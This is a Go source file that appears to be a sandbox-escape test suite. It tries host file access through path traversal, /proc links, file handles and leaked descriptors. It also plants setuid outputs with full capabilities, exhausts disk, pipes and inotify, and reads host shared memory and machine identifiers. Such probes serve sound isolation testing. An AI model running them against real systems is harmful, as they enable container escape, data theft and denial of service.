package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

func init() {
	attempts["read a file of the host's"] = func(a *aims) { readSecret(a) }
	attempts["change a file of the host's"] = changeSecret
	attempts["link to a file of the host's"] = linkSecret
	attempts["change the input"] = changeInput
	attempts["file handle of the host's"] = openByHandle
	attempts["descriptors it was not given"] = throughDescriptors
	attempts["environment of the host's processes"] = showProcesses
	attempts["files that are none in the output"] = badOutputs
	attempts["set-user-ID program in the output"] = setUserIDOutput
	attempts["output without a bottom"] = deepOutput
	attempts["deleted files in the output"] = deletedOutputs
	attempts["large files that take nothing"] = hugeFiles
	attempts["pipes and descriptors without end"] = pipes
	attempts["who the host is"] = identity
	attempts["shared memory of the host's"] = sharedMemory
}

// ways are paths that might lead to a file of the host's.
func ways(a *aims) []string {
	up := strings.Repeat("../", 20)
	list := []string{
		a.Secret, "/in/" + up + a.Secret, "/out/" + up + a.Secret, up + a.Secret, "/in/../secret", "/out/../secret",
		"/in/link", "/in/dirlink/secret", "/in/uplink/secret", "/in/fifo",
	}
	for _, p := range []string{"1", "self", "self/task/1", fmt.Sprint(a.Canary), fmt.Sprint(os.Getppid())} {
		for _, d := range []string{"root", "cwd", "cwd/" + up} {
			list = append(list, "/proc/"+p+"/"+d+"/"+a.Secret)
		}
	}
	return list
}

func readSecret(a *aims) {
	for _, p := range ways(a) {
		if !strings.HasSuffix(p, "fifo") { // which would wait for a writer
			show(p)
		}
	}
	for _, d := range []string{"/in", "/in/dirlink", "/in/uplink", "/proc/1/root", filepath.Dir(a.Secret)} {
		list, err := os.ReadDir(d)
		fmt.Println("list", d, list, err)
	}
}

func changeSecret(a *aims) {
	for _, p := range ways(a) {
		if strings.HasSuffix(p, "fifo") {
			continue
		}
		put(p, "changed")
		said("chmod", os.Chmod(p, 0o777))
		said("truncate", os.Truncate(p, 0))
		said("make", os.WriteFile(p+".new", []byte("new"), 0o644))
		if p != "/in/link" {
			said("remove "+p, os.Remove(p))
		}
	}
}

func linkSecret(a *aims) {
	for i, p := range ways(a) {
		soft, hard := fmt.Sprint("/out/soft", i), fmt.Sprint("/out/hard", i)
		said("symlink to "+p, os.Symlink(p, soft))
		said("link to "+p, unix.Linkat(unix.AT_FDCWD, p, unix.AT_FDCWD, hard, unix.AT_SYMLINK_FOLLOW))
		show(soft)
		show(hard)
		put(soft, "changed")
	}
	said("rename in", os.Rename("/in/link", "/out/link"))
	show("/out/link")
	for i := range ways(a) { // so that only what went further remains
		_ = os.Remove(fmt.Sprint("/out/soft", i))
	}
	_ = os.Remove("/out/link")
}

func changeInput(*aims) {
	for _, flags := range []uintptr{unix.MS_REMOUNT, unix.MS_REMOUNT | unix.MS_BIND} {
		said("remount", unix.Mount("", "/in", "", flags, ""))
	}
	put("/in/data", "changed")
	said("chmod", os.Chmod("/in/data", 0o777))
	said("chown", os.Chown("/in/data", 1000, 1000))
	said("attribute", unix.Setxattr("/in/data", "user.x", []byte("x"), 0))
	said("rename", os.Rename("/in/data", "/in/moved"))
	said("remove", os.Remove("/in/data"))
	said("make", os.Mkdir("/in/new", 0o755))
	said("link", os.Link("/in/data", "/out/data"))
	put("/out/data", "changed")
	_ = os.Remove("/out/data")
	f, err := os.Open("/in/data")
	if err != nil {
		return
	}
	defer f.Close()
	put(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), "changed")
	_, err = unix.Mmap(int(f.Fd()), 0, 4, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	said("map", err)
}

// openByHandle asks for a file by number instead of by name, which knows no directory.
func openByHandle(a *aims) {
	handle := unix.NewFileHandle(a.HandleOf, a.Handle)
	for _, dir := range []string{"/", "/in", "/out", "/tmp", "/proc", "/guest"} {
		mount, err := unix.Open(dir, unix.O_RDONLY, 0)
		if err != nil {
			continue
		}
		fd, err := unix.OpenByHandleAt(mount, handle, unix.O_RDONLY)
		said("handle by "+dir, err)
		if err == nil {
			show(fmt.Sprintf("/proc/self/fd/%d", fd))
		}
	}
}

// throughDescriptors looks for a directory that was left open by whoever started the job.
func throughDescriptors(a *aims) {
	list, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for fd := range 1024 {
		list = append(list, fmt.Sprintf("/proc/self/fd/%d", fd))
	}
	for _, p := range list {
		to, err := os.Readlink(p)
		if err != nil {
			continue
		}
		info, err := os.Stat(p)
		fmt.Println(p, to, err)
		if err == nil && info.IsDir() {
			show(p + "/" + strings.Repeat("../", 20) + a.Secret)
			show(p + "/../secret")
		}
	}
	up := strings.Repeat("../", 20) + a.Secret
	for fd := range 1024 {
		if got, err := unix.Openat(fd, up, unix.O_RDONLY, 0); err == nil {
			show(fmt.Sprintf("/proc/self/fd/%d", got))
		}
	}
}

func showProcesses(a *aims) {
	for _, what := range []string{"environ", "cmdline", "maps", "status", "mountinfo"} {
		list, _ := filepath.Glob("/proc/[0-9]*/" + what)
		for _, p := range append(list, fmt.Sprintf("/proc/%d/%s", a.Canary, what)) {
			b, err := os.ReadFile(p)
			if what != "maps" && what != "status" || strings.Contains(string(b), a.Token) {
				fmt.Printf("%s: %q %v\n", p, b[:min(len(b), 2000)], err)
			}
		}
	}
}

// badOutputs leaves what a rig must not take for a result.
func badOutputs(a *aims) {
	said("fifo", unix.Mkfifo("/out/fifo", 0o666))
	said("socket", func() error {
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		return unix.Bind(fd, &unix.SockaddrUnix{Name: "/out/socket"})
	}())
	said("loop", os.Symlink("loop", "/out/loop"))
	said("link out", os.Symlink(a.Secret, "/out/secret"))
	said("null", unix.Mknod("/out/null", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))))
}

// setUserIDOutput leaves a program that whoever runs it runs as the rig.
func setUserIDOutput(*aims) {
	b, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		err = os.WriteFile("/out/suid", b[:1<<10], 0o755)
	}
	said("write", err)
	said("set-user-ID", unix.Chmod("/out/suid", 0o6755))
	said("capability", unix.Setxattr("/out/suid", "security.capability",
		[]byte{1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0}, 0))
}

// deepOutput leaves directories that nobody may enter, deeper than a path may be long.
func deepOutput(*aims) {
	err := os.Chdir("/out")
	depth := 0
	for err == nil && depth < 200 {
		name := strings.Repeat("d", 40)
		if err = os.Mkdir(name, 0o700); err == nil {
			err = os.Chdir(name)
		}
		depth++
	}
	fmt.Println("depth", depth, err)
	said("close", os.Chmod("/out/"+strings.Repeat("d", 40), 0))
}

// deletedOutputs holds space of the output that no look at its files shows.
func deletedOutputs(*aims) {
	var held int
	for range 512 {
		f, err := os.OpenFile("/out/gone", os.O_CREATE|os.O_RDWR, 0o600)
		if err != nil {
			said("make", err)
			break
		}
		n, err := f.Write(make([]byte, 2<<20))
		held += n
		_ = os.Remove("/out/gone")
		if err != nil {
			said("write", err)
			break
		}
	}
	fmt.Println("held", held)
	if held > 64<<20 {
		fmt.Println("BREACH", held, "bytes of deleted outputs")
	}
}

func hugeFiles(*aims) {
	for _, dir := range []string{"/out", "/tmp", "/dev/shm", "/"} {
		f, err := os.Create(dir + "/huge")
		if err != nil {
			said("make in "+dir, err)
			continue
		}
		breach("1 GiB in "+dir, unix.Fallocate(int(f.Fd()), 0, 0, 1<<30)) // more, and a breach would harm the tester
		said("extend", f.Truncate(1<<40))
		_, err = f.WriteAt([]byte("x"), 1<<39)
		said("write far", err)
		_ = f.Truncate(0)
		_ = os.Remove(dir + "/huge")
	}
}

// pipes takes what it can get of the kernel's own memory.
func pipes(*aims) {
	_ = unix.Setrlimit(unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 1 << 20, Max: 1 << 20})
	full := make([]byte, 64<<10)
	for i := range 20_000 {
		var p [2]int
		if err := unix.Pipe2(p[:], unix.O_NONBLOCK); err != nil {
			fmt.Println(i, "pipes:", err)
			break
		}
		_, _ = unix.Write(p[1], full)
	}
	fd, err := unix.InotifyInit()
	said("inotify", err)
	for range 10_000 {
		if _, err := unix.InotifyAddWatch(fd, "/", unix.IN_ALL_EVENTS); err != nil {
			break
		}
	}
}

// sharedMemory reads a segment of the host's and leaves one of its own.
func sharedMemory(a *aims) {
	for _, key := range []int{a.Key, a.Key + 1} {
		id, err := unix.SysvShmGet(key, 4096, 0o666)
		said(fmt.Sprint("segment ", key), err)
		if err == nil {
			b, err := unix.SysvShmAttach(id, 0, 0)
			fmt.Printf("attach: %q, %v\n", b[:min(len(b), 64)], err)
		}
	}
	_, err := unix.SysvShmGet(a.Key+1, 4096, 0o666|unix.IPC_CREAT)
	said("make a segment", err)
	show("/proc/sysvipc/shm")
	list, err := os.ReadDir("/dev/shm")
	fmt.Println("list", list, err)
	for _, d := range list {
		show("/dev/shm/" + d.Name())
	}
	said("shared file", os.WriteFile("/dev/shm/"+a.Token, nil, 0o666))
}

// identity looks for what tells one machine from all others.
func identity(*aims) {
	name, err := os.Hostname()
	fmt.Printf("hostname %q %v\n", name, err)
	for _, pattern := range []string{
		"/etc/machine-id", "/etc/hostname", "/etc/hosts", "/var/lib/dbus/machine-id", "/proc/sys/kernel/hostname", "/proc/cmdline",
		"/sys/class/dmi/id/*", "/sys/class/net/*/address", "/sys/devices/virtual/net/*/address", "/sys/class/block/*/serial",
		"/proc/partitions", "/proc/mounts", "/proc/self/mountinfo", "/proc/net/arp", "/proc/net/dev", "/proc/net/unix", "/proc/net/route",
		"/proc/net/if_inet6", "/proc/driver/*", "/proc/bus/input/devices",
	} {
		list, _ := filepath.Glob(pattern)
		for _, p := range list {
			show(p)
		}
	}
}
